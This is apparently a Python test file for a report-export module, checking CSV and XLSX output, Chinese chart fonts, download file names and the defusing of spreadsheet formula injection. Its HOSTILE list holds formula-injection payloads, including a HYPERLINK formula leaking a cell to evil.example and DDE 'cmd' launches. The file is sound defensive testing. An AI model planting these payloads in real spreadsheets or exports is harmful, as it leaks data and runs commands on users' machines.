"""Report downloads: CSV with BOM, XLSX with bilingual headers, charts that draw Chinese, text
that is shown and never run as a formula, and file names that agree."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from urllib.parse import unquote

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from cbec_alliance.core import exports

COLUMNS = [exports.Column("code", "能力", "competency"), exports.Column("gap", "缺口", "gap")]
ROWS = [{"code": "平台运营", "gap": 12}, {"code": "data-analysis", "gap": -3}]


def test_csv_starts_with_a_bom_and_keeps_chinese():
    data = exports.csv_bytes(COLUMNS, ROWS)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data[3:].decode("utf-8")
    assert text.splitlines() == ["能力 competency,缺口 gap", "平台运营,12", "data-analysis,-3"]


def test_xlsx_has_bilingual_headers_and_the_rows():
    ws = load_workbook(io.BytesIO(exports.xlsx_bytes(COLUMNS, ROWS, "技能缺口"))).active
    assert ws.title == "技能缺口"
    assert [[c.value for c in row] for row in ws.iter_rows()] == [
        ["能力 competency", "缺口 gap"],
        ["平台运营", 12],
        ["data-analysis", -3],
    ]


def test_charts_render_chinese_with_the_bundled_font():
    svg = exports.bar_chart("svg", "技能缺口", ["平台运营", "数据分析"], {"需求": [3, 1]})
    assert svg.startswith(b"<?xml")
    # Text is drawn as glyph paths from the CJK font: a missing glyph would be a warning and
    # an empty box; each Chinese character becomes its own path definition.
    assert svg.count(b"<path id=") >= len(set("技能缺口平台运营数据分析需求"))
    png = exports.bar_chart("png", "技能缺口", ["平台运营"], {"需求": [3]}, horizontal=True)
    assert png.startswith(b"\x89PNG")
    assert exports.font_path().endswith("mplfonts/fonts/NotoSansCJKsc-Regular.otf")


# Text a user can type into a name or a label, one per way a spreadsheet starts a formula
# (OWASP's list), plus the forms that reach it after trimming or from a Chinese input method.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '＝HYPERLINK("http://evil.example/","点击")',
    "－1＋1",
]
LEADS = "=+-@\t\r"


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def _hostile_table():
    """Every column holds hostile text in some row; the last column also a negative number,
    a Decimal and a float."""
    columns = [exports.Column(f"c{k}", f"列{k}", f"column {k}") for k in range(len(HOSTILE))]
    rows = [
        {f"c{k}": HOSTILE[(k + shift) % len(HOSTILE)] for k in range(len(HOSTILE))}
        for shift in range(len(HOSTILE))
    ]
    rows.append({"c0": -3, "c1": Decimal("-12.50"), "c2": -0.25, "c3": "平台运营", "c4": "#N/A"})
    return columns, rows


def test_csv_quotes_every_cell_that_starts_like_a_formula_and_keeps_numbers():
    columns, rows = _hostile_table()
    table = _csv_rows(exports.csv_bytes(columns, rows))
    for got, want in zip(table[1:-1], rows[:-1], strict=True):
        assert got == ["'" + want[c.key] for c in columns]
    assert table[-1][:5] == ["-3", "-12.50", "-0.25", "平台运营", "#N/A"]  # numbers unquoted
    for row in table[:-1]:
        for cell in row:
            assert not cell.startswith(tuple(LEADS)), cell


def test_xlsx_writes_every_text_cell_as_text_and_numbers_as_numbers():
    columns, rows = _hostile_table()
    ws = load_workbook(io.BytesIO(exports.xlsx_bytes(columns, rows, "注入"))).active
    cells = [list(r) for r in ws.iter_rows(min_row=2)]
    for got, want in zip(cells[:-1], rows[:-1], strict=True):
        # Shown unchanged (XML reads a carriage return back as a line feed).
        assert [c.value for c in got] == [want[c.key].replace("\r", "\n") for c in columns]
        assert all(c.data_type == "s" and c.quotePrefix for c in got)
    last = cells[-1]
    assert [c.value for c in last[:5]] == [-3, -12.5, -0.25, "平台运营", "#N/A"]
    assert [c.data_type for c in last[:5]] == ["n", "n", "n", "s", "s"]  # "#N/A" not an error
    assert not any(c.quotePrefix for c in last[:5])
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_xlsx_replaces_characters_xml_cannot_hold_instead_of_failing():
    rows = [{"code": "平台\x07运营\x1b", "gap": 1}]
    ws = load_workbook(io.BytesIO(exports.xlsx_bytes(COLUMNS, rows, "x"))).active
    assert ws["A2"].value == "平台\ufffd运营\ufffd"
    assert _csv_rows(exports.csv_bytes(COLUMNS, rows))[1] == ["平台\x07运营\x1b", "1"]


@given(lead=st.sampled_from([*LEADS, "＝", "＋", "－", "＠"]), rest=st.text())
@example(lead="=", rest='HYPERLINK("http://evil.example/?leak="&A2,"click")')
@example(lead="-", rest="5")
def test_text_starting_with_a_formula_character_gets_a_quote(lead, rest):
    text = lead + rest
    assert exports.defuse(text) == "'" + text
    assert exports.csv_cell(text) == "'" + text


@given(
    first=st.characters(categories=("L", "N")),  # letters and digits of any script
    rest=st.text(),
)
@example(first="平", rest="台运营")
@example(first="a", rest="=1+1")
def test_other_text_is_unchanged(first, rest):
    assert exports.defuse(first + rest) == first + rest


@given(
    value=st.one_of(
        st.integers(),
        st.floats(allow_nan=False),
        st.decimals(allow_nan=False, allow_infinity=False),
    )
)
def test_numbers_stay_numbers(value):
    assert exports.csv_cell(value) == value
    assert type(exports.csv_cell(value)) is type(value)


def _names(header: str) -> tuple[str, str]:
    plain = re.search(r'filename="([^"]*)"', header).group(1)
    encoded = re.search(r"filename\*=UTF-8''(\S+)", header).group(1)
    return plain, unquote(encoded)


@pytest.mark.parametrize("name", ["overview.csv", "skills-gap.xlsx", "survey-2026-3.png"])
def test_an_ascii_name_is_the_same_in_filename_and_filename_star(name):
    header = exports.disposition(name)
    assert header.startswith("attachment; ")
    assert _names(header) == (name, name)


@pytest.mark.parametrize(
    ("name", "fallback"),
    [
        ("技能缺口.csv", "download.csv"),
        ("调查报告-2026.xlsx", "_-2026.xlsx"),
        ("Café.csv", "Cafe.csv"),
        ('a"b\\c%d.csv', "a_b_c_d.csv"),
    ],
)
def test_a_chinese_name_is_utf8_in_filename_star_with_an_ascii_fallback(name, fallback):
    plain, utf8 = _names(exports.disposition(name))
    assert utf8 == name
    assert plain == fallback
    assert plain.isascii()
